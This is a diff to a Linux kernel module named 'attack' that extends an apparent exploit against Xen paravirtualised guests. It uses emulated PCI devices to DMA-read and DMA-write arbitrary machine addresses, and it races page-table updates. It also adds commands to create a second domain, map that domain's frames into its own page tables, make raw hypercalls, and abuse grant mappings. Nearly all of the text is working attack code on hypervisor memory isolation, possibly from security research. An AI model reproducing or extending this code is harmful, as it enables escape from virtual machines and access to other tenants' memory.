@@ -32,6 +32,8 @@
 #include <asm/xen/hypervisor.h>
 #include <asm/xen/page.h>
 
+#include "attack.h"
+
 #define EDU_SRC     0x80
 #define EDU_DST     0x88
 #define EDU_COUNT   0x90
@@ -45,11 +47,16 @@
 #define MAX_SLOTS 32
 
 /* Bit 0 clear in every byte order: read as page table entries, not present. */
-#define HAMMER 0x5ca1ab1e5ca1ab1eull
+#define HAMMER      0x5ca1ab1e5ca1ab1eull
+/* What is in a device's buffer before it reads, and in a page before it is
+ * written. */
+#define MARK_DEVICE 0xdeadd0d0deadd0d0ull
+#define MARK_PAGE   0x0bad0bad0bad0badull
 
 struct edu {
     struct pci_dev *pdev;
     void __iomem *regs;
+    uint64_t held; /* what its buffer is full of; 0: something else */
 };
 
 static DEFINE_MUTEX(busy);
@@ -60,6 +67,8 @@ static struct {
     unsigned int order;
 } slots[MAX_SLOTS];
 static uint64_t *scratch; /* a page on both ends of what the CPU sees */
+static uint64_t *marks;   /* a page full of MARK_DEVICE */
+static void *window;      /* a page that may be mapped over */
 static char answer[256];
 static size_t answer_len, answer_pos;
 
@@ -103,43 +112,65 @@ static uint64_t ma_of(void *va)
     return virt_to_machine(va).maddr;
 }
 
-static void scratch_fill(uint64_t value)
+static void page_fill(uint64_t *p, uint64_t value)
 {
     unsigned int i;
 
-    for (i = 0; i < PAGE_SIZE / sizeof(*scratch); i++)
-        WRITE_ONCE(scratch[i], value);
+    for (i = 0; i < PAGE_SIZE / sizeof(*p); i++)
+        WRITE_ONCE(p[i], value);
 }
 
-/*
- * len bytes at a machine address into the device and from there into the
- * scratch page. Three values tell what went wrong: what was in the device
- * before, what was in the page before, and what came.
- */
-static int attack_read(uint64_t ma, uint32_t len)
+/* Fill a device's buffer, unless it is full of this already. */
+static int edu_hold(struct edu *e, uint64_t value)
 {
-    struct edu *e = &edus[0];
-    int rc;
+    int rc = edu_wait(e);
 
-    scratch_fill(0xdeadd0d0deadd0d0ull);
-    rc = edu_move(e, false, ma_of(scratch), len);
-    if (!rc)
-        rc = edu_move(e, false, ma, len);
-    scratch_fill(0x0bad0bad0bad0badull);
-    if (!rc)
-        rc = edu_move(e, true, ma_of(scratch), len);
-    if (!rc && scratch[0] == 0x0bad0bad0bad0badull)
-        rc = -EIO; /* the device cannot even reach our page */
+    if (rc || e->held == value)
+        return rc;
+    page_fill(scratch, value);
+    rc = edu_move(e, false, ma_of(scratch), EDU_MAX_LEN);
+    e->held = rc ? 0 : value;
     return rc;
 }
 
+/* The same with MARK_DEVICE, without waiting for it. */
+static void edu_mark(struct edu *e)
+{
+    edu_start(e, false, ma_of(marks), EDU_MAX_LEN);
+    e->held = MARK_DEVICE;
+}
+
+/*
+ * len bytes at a machine address into a device and from there into the
+ * scratch page. Three values tell what went wrong: what was in the device
+ * before, what was in the page before, and what came. A transfer takes a tenth
+ * of a second, so readers take turns, and one is prepared meanwhile.
+ */
+static int attack_read(uint64_t ma, uint32_t len)
+{
+    static unsigned int turn;
+    struct edu *const e = &edus[nr_edus > 1 ? turn++ % (nr_edus - 1) : 0];
+    int rc = edu_hold(e, MARK_DEVICE);
+
+    e->held = 0;
+    if (!rc)
+        rc = edu_move(e, false, ma, len);
+    page_fill(scratch, MARK_PAGE);
+    if (!rc)
+        rc = edu_move(e, true, ma_of(scratch), len);
+    if (!rc && scratch[0] == MARK_PAGE)
+        rc = -EIO; /* the device cannot even reach our page */
+    if (!rc)
+        edu_mark(e);
+    return rc;
+}
+
+/* The last device writes: it goes on holding what it wrote. */
 static int attack_write(uint64_t ma, uint32_t len, uint64_t value)
 {
-    struct edu *e = &edus[0];
-    int rc;
+    struct edu *const e = &edus[nr_edus - 1];
+    const int rc = edu_hold(e, value);
 
-    scratch_fill(value);
-    rc = edu_move(e, false, ma_of(scratch), len);
     return rc ? rc : edu_move(e, true, ma, len);
 }
 
@@ -280,6 +311,53 @@ static bool is_read_only(void *va)
     return pte && level == PG_LEVEL_4K && !(pte_val(*pte) & _PAGE_RW);
 }
 
+/* Frames on both sides of a machine address that are data pages of ours. */
+static bool ours(uint64_t mfn)
+{
+    const unsigned long pfn = mfn_to_pfn(mfn);
+
+    return pfn_valid(pfn) && pfn_to_mfn(pfn) == mfn &&
+           !is_read_only(__va(PFN_PHYS(pfn)));
+}
+
+/* A border between two leaves of 1 GiB, were they as large as can be. */
+static uint64_t gig_border(void)
+{
+    uint64_t mfn;
+
+    for (mfn = 1ul << 18; mfn < 1ul << 24; mfn += 1ul << 18) {
+        if (ours(mfn - 1) && ours(mfn))
+            return PFN_PHYS(mfn);
+    }
+    return 0;
+}
+
+/* ---- for domain.c -------------------------------------------------------- */
+
+long attack_hypercall(unsigned int nr, unsigned long a1, unsigned long a2,
+                      unsigned long a3, unsigned long a4)
+{
+    return privcmd_call(nr, a1, a2, a3, a4, 0);
+}
+
+uint64_t attack_pte_of(void *va)
+{
+    unsigned int level;
+    pte_t *const pte = lookup_address((unsigned long)va, &level);
+
+    return pte && level == PG_LEVEL_4K ? ma_of(pte) : 0;
+}
+
+void *attack_window(void)
+{
+    return window;
+}
+
+int attack_window_restore(void)
+{
+    return remap(window, PAGE_KERNEL);
+}
+
 /* ---- the race ------------------------------------------------------------ */
 
 /*
@@ -294,9 +372,8 @@ static int race(void *va, unsigned int level, uint64_t rounds, char *out,
     unsigned int i;
     int rc = before ? 0 : -ENOMEM;
 
-    scratch_fill(HAMMER);
     for (i = 0; i < nr_edus && !rc; i++)
-        rc = edu_move(&edus[i], false, ma_of(scratch), EDU_MAX_LEN);
+        rc = edu_hold(&edus[i], HAMMER);
 
     for (done = 0; done < rounds && !rc; done++) {
         /* Not just "not zero": a table of level 4 holds more than ours. */
@@ -333,6 +410,7 @@ static int race(void *va, unsigned int level, uint64_t rounds, char *out,
 
 static int run(char *line, char *out, size_t size)
 {
+    static uint64_t foreign; /* the frame of the other domain */
     uint64_t a = 0, b = 0, c = 0, d = 0;
     char cmd[16] = "";
     const int n = sscanf(line, "%15s %llx %llx %llx %llx", cmd, &a, &b, &c, &d);
@@ -379,6 +457,13 @@ static int run(char *line, char *out, size_t size)
             i--;
         snprintf(out, size, "%llx %d %llx", ma_of(base + (i - 1) * PAGE_SIZE),
                  is_read_only(base + (i - 1) * PAGE_SIZE), i - 1);
+    } else if (!strcmp(cmd, "gig")) { /* -> address */
+        snprintf(out, size, "%llx", gig_border());
+    } else if (!strcmp(cmd, "domain")) { /* -> address of its page */
+        rc = domain_create(&foreign);
+        snprintf(out, size, "%llx", foreign << PAGE_SHIFT);
+    } else if (!strcmp(cmd, "kill")) {
+        rc = domain_kill();
     } else if (!va) { /* the rest: slot, byte, ... */
         return -EINVAL;
     } else if (!strcmp(cmd, "maddr")) {
@@ -399,6 +484,15 @@ static int run(char *line, char *out, size_t size)
     } else if (!strcmp(cmd, "in")) {
         rc = page_in(va);
         snprintf(out, size, "%llx", ma_of(va));
+    } else if (!strcmp(cmd, "grant")) { /* read-only */
+        rc = domain_grant_map(va, c);
+    } else if (!strcmp(cmd, "revoke")) {
+        rc = domain_grant_unmap(va);
+        rc = rc ? rc : remap(va, PAGE_KERNEL);
+    } else if (!strcmp(cmd, "foreign")) {
+        rc = domain_foreign_map(attack_pte_of(va), foreign);
+    } else if (!strcmp(cmd, "own")) {
+        rc = remap(va, PAGE_KERNEL);
     } else if (!strcmp(cmd, "race")) { /* level, rounds */
         rc = race(va, c, d, out, size);
     } else {
@@ -489,16 +583,25 @@ static int __init attack_init(void)
     if (!xen_pv_domain())
         return -ENODEV;
     scratch = (uint64_t *)get_zeroed_page(GFP_KERNEL);
-    if (!scratch)
-        return -ENOMEM;
+    marks = (uint64_t *)get_zeroed_page(GFP_KERNEL);
+    window = (void *)get_zeroed_page(GFP_KERNEL);
+    if (!scratch || !marks || !window) {
+        rc = -ENOMEM;
+        goto err;
+    }
+    page_fill(marks, MARK_DEVICE);
     rc = pci_register_driver(&edu_driver);
     if (!rc) {
         rc = misc_register(&attack_dev);
         if (rc)
             pci_unregister_driver(&edu_driver);
     }
-    if (rc)
-        free_page((unsigned long)scratch);
+    if (!rc)
+        return 0;
+err:
+    free_page((unsigned long)window);
+    free_page((unsigned long)marks);
+    free_page((unsigned long)scratch);
     return rc;
 }
 module_init(attack_init); /* no exit: pages may have been given away */
